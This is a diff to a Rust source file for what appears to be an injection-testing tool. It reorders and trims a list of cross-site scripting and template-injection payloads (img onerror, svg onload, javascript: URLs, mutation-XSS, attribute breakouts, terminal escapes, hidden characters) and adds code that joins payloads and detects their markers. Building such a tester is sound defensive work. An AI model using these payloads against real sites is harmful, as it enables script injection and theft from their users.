@@ -9,6 +9,16 @@ pub struct Payload {
     pub marker: String,
 }
 
+impl Payload {
+    /// Whether it stands in the text, alone or with others.
+    pub(super) fn is_in(&self, text: &str) -> bool {
+        match self.marker.starts_with('~') {
+            true => text.contains(&self.marker),
+            false => text.split(' ').any(|word| word == self.text),
+        }
+    }
+}
+
 /// All of them; what can fetch would fetch from that address.
 pub(super) fn payloads(address: &str) -> Vec<Payload> {
     let marked = MARKED.iter().map(|(name, form)| {
@@ -22,69 +32,68 @@ pub(super) fn payloads(address: &str) -> Vec<Payload> {
     marked.chain(bare).collect()
 }
 
+/// The payloads for a place that has room for one string and is seen only a few times: several joined to one, so that
+/// each that works only as the beginning of a text is the beginning of one.
+pub(super) fn joined(payloads: &[Payload]) -> Vec<String> {
+    let (marked, bare) = payloads.split_at(payloads.len().saturating_sub(BARE.len()));
+    let beginnings = marked.len().min(BEGINNINGS);
+    let groups = (0..beginnings).map(|first| {
+        let texts: Vec<_> =
+            marked.iter().skip(first).step_by(beginnings).map(|payload| payload.text.as_str()).collect();
+        texts.join(" ")
+    });
+    groups.chain(bare.iter().map(|payload| payload.text.clone())).collect()
+}
+
+/// So many of the list work only at the beginning of a text; they stand first.
+const BEGINNINGS: usize = 7;
+
 /// `RUN` stands for a script that leaves its name, `URL` for an address that nobody may ask for. Both stand near the
 /// beginning, which is what is left of a text that is cut for want of room.
-const MARKED: [(&str, &str); 49] = [
-    // Text of an element that is taken for markup.
-    ("element", "<img src=URL onerror=RUN>"),
-    ("script-element", "<script>RUN</script>"),
-    ("script-source", "<script src=URL></script>"),
-    ("event-handler", "<details open ontoggle=RUN>"),
-    ("custom-element", "<x-x onfocus=RUN autofocus tabindex=1>"),
-    ("svg-onload", "<svg onload=RUN>"),
-    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:RUN /><text>x</text></a></svg>"),
-    ("svg-foreign-object", "<svg><foreignObject><img src=URL onerror=RUN></foreignObject></svg>"),
-    ("svg-use", "<svg><use href='URL#x'/></svg>"),
-    ("math-link", "<math href=javascript:RUN>x</math>"),
-    (
-        "mutation-style",
-        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=URL onerror=RUN&gt;'>",
-    ),
-    ("mutation-noscript", "<noscript><p title='</noscript><img src=URL onerror=RUN>'>"),
-    ("entities", "&lt;img src=URL onerror=RUN&gt;"),
-    ("null-in-tag", "<scr\u{0}ipt>RUN</scr\u{0}ipt>"),
-    // Ways out of an attribute.
-    ("double-quote", "\" autofocus onfocus=RUN x=\""),
-    ("single-quote", "' autofocus onfocus=RUN x='"),
-    ("backtick", "` autofocus onfocus=RUN x=`"),
-    ("unquoted", "x autofocus onfocus=RUN tabindex=1"),
-    ("tag-end", "\"'><img src=URL onerror=RUN>"),
-    ("handler-body", "');RUN;//"),
-    // Styles.
-    ("style-end", "</style><script>RUN</script>"),
-    ("css-url", "red;background:url(URL)"),
-    ("css-import", "<style>@import 'URL';</style>"),
-    // Frames and addresses.
-    ("iframe-srcdoc", "<iframe srcdoc='<script>RUN</script>'></iframe>"),
-    ("iframe-javascript", "<iframe src=javascript:RUN></iframe>"),
+const MARKED: [(&str, &str); 37] = [
+    // Addresses, and a value of a style.
     ("javascript-url", "javascript:RUN//"),
     ("javascript-url-odd", "\u{1} jAvA\tscr\nipt\r:RUN//"),
     ("data-html-url", "data:text/html,<script>RUN</script>"),
     ("data-svg-url", "data:image/svg+xml,<svg onload=RUN>"),
     ("plain-url", "URL"),
+    ("css-url", "red;background:url(URL)"),
+    ("line-separator", "\u{2028}RUN//\u{2029}"),
+    // Text of an element that is taken for markup.
+    ("element", "<img src=URL onerror=RUN>"),
+    ("script-element", "<script>RUN</script>"),
+    ("event-handler", "<details open ontoggle=RUN>"),
+    ("svg-onload", "<svg onload=RUN>"),
+    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:RUN /><text>x</text></a></svg>"),
+    ("svg-foreign-object", "<svg><foreignObject><img src=URL onerror=RUN></foreignObject></svg>"),
+    ("mutation", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=URL onerror=RUN&gt;'>"),
+    ("style-end", "</style><script>RUN</script>"),
+    ("css-import", "<style>@import 'URL';</style>"),
+    ("iframe-srcdoc", "<iframe srcdoc='<script>RUN</script>'></iframe>"),
+    ("iframe-javascript", "<iframe src=javascript:RUN></iframe>"),
     ("meta-refresh", "<meta http-equiv=refresh content='0;url=URL'>"),
-    ("base", "<base href=URL>"),
-    // What loads by itself.
-    ("link-stylesheet", "<link rel=stylesheet href=URL>"),
-    ("link-prefetch", "<link rel='prefetch import' href=URL>"),
+    ("link", "<link rel='stylesheet prefetch import' href=URL>"),
     ("audio-video", "<audio src=URL autoplay onerror=RUN></audio><video poster=URL src=URL autoplay></video>"),
     ("object-embed", "<object data=URL></object><embed src=URL>"),
     ("form-action", "<form action=javascript:RUN><button formaction=URL autofocus>x</button></form>"),
-    // Languages of templates, and JSON or a script that text is pasted into.
+    // Ways out of an attribute.
+    ("double-quote", "\" autofocus onfocus=RUN x=\""),
+    ("single-quote", "' autofocus onfocus=RUN x='"),
+    ("backtick", "` autofocus onfocus=RUN x=`"),
+    ("unquoted", "x autofocus onfocus=RUN tabindex=1"),
+    // Languages of templates, and a script that text is pasted into.
     ("mustache", "{{[].at.constructor('RUN')()}}"),
     ("template-literal", "${RUN}"),
     ("server-template", "<%= RUN %>"),
     ("svelte-html", "{@html '<img src=URL onerror=RUN>'}"),
     ("script-end", "\";RUN;//</script><script>RUN</script>"),
-    ("line-separator", "\u{2028}RUN//\u{2029}"),
     // A selector that is made of text, and what a backslash does to the quote behind it.
     ("selector", "\"],*,[x='URL\\"),
     // Markdown and terminals.
     ("markdown-link", "[x](javascript:RUN)"),
     ("markdown-image", "![x](URL)"),
-    ("markdown-autolink", "<URL>"),
     ("terminal-link", "\u{1b}]8;;URL\u{7}x\u{1b}]8;;\u{7}\u{1b}[31m\u{9b}2J"),
-    ("hidden-characters", "\u{202e}RUN\u{2066}\u{200b}\u{feff}\u{ad}\u{2060}\u{202a}\u{e0041}"),
+    ("hidden-characters", "\u{202e}RUN\u{2066}\u{200b}\u{feff}\u{ad}\u{2060}\u{202a}\u{e0041}\u{0}"),
 ];
 
 /// Names that every object has; they do their harm only when nothing stands beside them.
